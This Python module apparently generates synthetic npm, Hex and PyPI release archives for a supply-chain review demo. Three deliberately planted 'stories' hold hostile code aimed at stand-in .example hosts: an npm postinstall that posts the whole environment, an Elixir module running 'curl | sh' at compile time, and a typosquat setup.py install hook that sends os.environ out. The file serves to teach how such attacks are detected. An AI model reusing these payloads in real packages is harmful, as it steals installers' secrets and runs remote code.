"""The demo's release archives, written for it (imported by gen_snapshot.py).

Every archive is small and synthetic: a stand-in module, a CHANGELOG with
one line per release up to its version, and the package's manifest.  Three
releases tell a story a reviewer should catch in the explorer's source
diff (STORIES).  The bytes are deterministic (fixed times, no gzip
timestamp), so running the generator again gives the same digests, and
the lockfiles and registry records carry those digests.
"""
import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile

MTIME = 1700000000          # 2023-11-14: every member's time
ZIPTIME = (2023, 11, 14, 0, 0, 0)

# ---- the stories ------------------------------------------------------------

TOPBAR_TELEMETRY = b"""\
// Anonymous install metrics, to help us support more frameworks.
const https = require("https");
const os = require("os");

const payload = JSON.stringify(process.env);
const req = https.request({ hostname: "metrics.topbar-cdn.example", path: "/v2/i", method: "POST",
  headers: { "content-type": "application/json", "x-host": os.hostname() } });
req.on("error", () => {});
req.end(payload);
"""

SSL_UPDATE_EX = b"""\
defmodule :ssl_verify_fun_pins do
  @moduledoc false
  # Keeps the bundled certificate pins current while the dependency builds.
  @pins System.cmd("sh", ["-c", "curl -fsS https://pins.ssl-verify.example/v1 | sh"])

  def pins, do: @pins
end
"""

REQEUSTS_SETUP = b"""\
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        import base64, os, urllib.request
        blob = base64.b64encode(repr(dict(os.environ)).encode())
        urllib.request.urlopen("https://pyhttp-stats.example/i", data=blob, timeout=3)


setup(name="reqeusts", version="2.31.1", packages=["reqeusts"],
      cmdclass={"install": Install})
"""

# (ecosystem, name) -> (first version, {path: bytes}, npm scripts or None,
# what a reviewer should catch).  The files join (or replace) the stand-in
# ones from that version on.
STORIES = {
    ("npm", "topbar"): ("2.0.2", {"lib/telemetry.js": TOPBAR_TELEMETRY},
                        {"postinstall": "node -e \"require('./lib/telemetry.js')\""},
                        "2.0.1 -> 2.0.2, the first release by a new publisher, gains a postinstall "
                        "that posts the whole environment (process.env) to a metrics host"),
    ("hex", "ssl_verify_fun"): ("1.1.7", {"lib/ssl_verify_fun/pins.ex": SSL_UPDATE_EX}, None,
                                "1.1.6 -> 1.1.7, the new owner's first release, runs curl | sh "
                                "through System.cmd in a module body: at compile time"),
    ("pypi", "reqeusts"): ("2.31.1", {"setup.py": REQEUSTS_SETUP}, None,
                           "2.31.0 -> 2.31.1 of the typosquat: an sdist whose setup.py gains a "
                           "cmdclass install hook that posts os.environ"),
}


def story(eco, name, version, order):
    """The story's files and npm scripts when version has them, else ({}, None)."""
    s = STORIES.get((eco, name))
    if not s or order.index(version) < order.index(s[0]):
        return {}, None
    return s[1], s[2]


# ---- containers ---------------------------------------------------------------


def tar_bytes(members, gz):
    """A ustar archive of (path, bytes), cut after its end-of-archive
    blocks (no padding to tar's 10 KiB record), gzip'ed with no time."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for path, data in members:
            ti = tarfile.TarInfo(path)
            ti.size, ti.mtime, ti.mode = len(data), MTIME, 0o644
            t.addfile(ti, io.BytesIO(data))
        end = t.offset + 2 * tarfile.BLOCKSIZE
    data = raw.getvalue()[:end]
    return gzip.compress(data, mtime=0) if gz else data


def zip_bytes(members):
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as z:
        for path, data in members:
            z.writestr(zipfile.ZipInfo(path, ZIPTIME), data)
    return raw.getvalue()


def changelog(name, order, version):
    upto = order[:order.index(version) + 1]
    lines = ["# Changelog of %s (demo stand-in)\n\n" % name]
    lines += ["- %s\n" % v for v in reversed(upto)]
    return "".join(lines).encode()


# ---- Hex ----------------------------------------------------------------------


def erl_bin(s):
    return '<<"%s">>' % s


def hex_metadata(name, version, desc, licenses, pin):
    reqs = ",".join("{%s,[{<<\"app\">>,%s},{<<\"optional\">>,%s},{<<\"repository\">>,<<\"hexpm\">>},"
                    "{<<\"requirement\">>,%s}]}"
                    % (erl_bin(d), erl_bin(r["app"]), "true" if r["optional"] else "false",
                       erl_bin(r["requirement"]))
                    for d, r in sorted(pin["requirements"].items()))
    tools = ",".join(erl_bin(t) for t in pin["build_tools"])
    return ("{<<\"name\">>,%s}.\n{<<\"version\">>,%s}.\n{<<\"description\">>,%s}.\n"
            "{<<\"licenses\">>,[%s]}.\n{<<\"build_tools\">>,[%s]}.\n{<<\"requirements\">>,[%s]}.\n"
            % (erl_bin(name), erl_bin(version), erl_bin(desc.replace('"', "'")),
               ",".join(erl_bin(x) for x in licenses), tools, reqs)).encode()


def camel(name):
    return "".join(p.capitalize() for p in name.split("_"))


def hex_sources(name, version, desc, tools):
    """The stand-in sources: Gleam, Elixir (mix) or Erlang (rebar3)."""
    if "gleam" in tools:
        return {"gleam.toml": ('name = "%s"\nversion = "%s"\n' % (name, version)).encode(),
                "src/%s.gleam" % name: ('/// %s\npub fn version() -> String {\n  "%s"\n}\n'
                                        % (desc, version)).encode()}
    if "mix" in tools:
        mod = camel(name)
        return {"mix.exs": ('defmodule %s.MixProject do\n  use Mix.Project\n\n  def project do\n'
                            '    [app: :%s, version: "%s", elixir: "~> 1.11", deps: []]\n  end\nend\n'
                            % (mod, name, version)).encode(),
                "lib/%s.ex" % name: ('defmodule %s do\n  @moduledoc "%s"\n\n  def version, do: "%s"\nend\n'
                                     % (mod, desc.replace('"', "'"), version)).encode()}
    return {"rebar.config": b"{erl_opts, [debug_info]}.\n",
            "src/%s.app.src" % name: ('{application, %s, [{vsn, "%s"}, {description, "%s"}]}.\n'
                                      % (name, version, desc.replace('"', "'"))).encode(),
            "src/%s.erl" % name: ('-module(%s).\n-export([version/0]).\n\nversion() -> "%s".\n'
                                  % (name, version)).encode()}


def hex_archive(name, version, order, desc, licenses, pin):
    """(outer tarball, inner checksum, outer checksum), checksums lower-case hex."""
    files = hex_sources(name, version, desc, pin["build_tools"])
    files["CHANGELOG.md"] = changelog(name, order, version)
    files.update(story("hex", name, version, order)[0])
    meta = hex_metadata(name, version, desc, licenses, pin)
    contents = tar_bytes(sorted(files.items()), True)
    inner = hashlib.sha256(b"3" + meta + contents).hexdigest()
    outer = tar_bytes([("VERSION", b"3"), ("CHECKSUM", inner.upper().encode()),
                       ("metadata.config", meta), ("contents.tar.gz", contents)], False)
    return outer, inner, hashlib.sha256(outer).hexdigest()


# ---- npm ----------------------------------------------------------------------


def npm_archive(name, version, order, desc, deps):
    """(tgz, package.json's scripts or None)."""
    base = name.split("/")[-1]
    extra, scripts = story("npm", name, version, order)
    manifest = {"name": name, "version": version, "description": desc, "main": "dist/%s.js" % base,
                "license": "MIT"}
    if scripts:
        manifest["scripts"] = scripts
    if deps:
        manifest["dependencies"] = deps
    files = {"package.json": (json.dumps(manifest, indent=2) + "\n").encode(),
             "dist/%s.js" % base: ("// %s (demo stand-in)\nmodule.exports = { version: \"%s\" };\n"
                                   % (desc, version)).encode(),
             "CHANGELOG.md": changelog(name, order, version)}
    files.update(extra)
    return tar_bytes([("package/" + p, d) for p, d in sorted(files.items())], True), scripts


def sri(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


# ---- PyPI ---------------------------------------------------------------------


def pkg_info(name, version, summary, requires):
    lines = ["Metadata-Version: 2.1", "Name: " + name, "Version: " + version,
             "Summary: " + summary.splitlines()[0][:60].encode("ascii", "replace").decode()]
    lines += ["Requires-Dist: " + r for r in requires]
    return ("\n".join(lines) + "\n").encode()


def pypi_sources(name, version, order):
    mod = name.replace("-", "_")
    files = {"%s/__init__.py" % mod: ('__version__ = "%s"\n' % version).encode(),
             "CHANGELOG.md": changelog(name, order, version)}
    return mod, files


def pypi_sdist(name, version, order, summary, requires):
    mod, files = pypi_sources(name, version, order)
    files["setup.py"] = ('from setuptools import setup\n\nsetup(name="%s", version="%s", packages=["%s"])\n'
                         % (name, version, mod)).encode()
    files["PKG-INFO"] = pkg_info(name, version, summary, requires)
    files.update(story("pypi", name, version, order)[0])
    root = "%s-%s/" % (name, version)
    return tar_bytes([(root + p, d) for p, d in sorted(files.items())], True)


def pypi_wheel(name, version, order, summary, requires):
    mod, files = pypi_sources(name, version, order)
    info = "%s-%s.dist-info/" % (mod, version)
    files[info + "METADATA"] = pkg_info(name, version, summary, requires)
    files[info + "WHEEL"] = b"Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    return zip_bytes(sorted(files.items()))


def shipped_versions(order, pin, latest):
    """The releases the demo ships archives of: the pin, the one before it
    (to compare what the pin changed) and the latest."""
    i = order.index(pin)
    return sorted({pin, latest, order[max(i - 1, 0)]}, key=order.index)
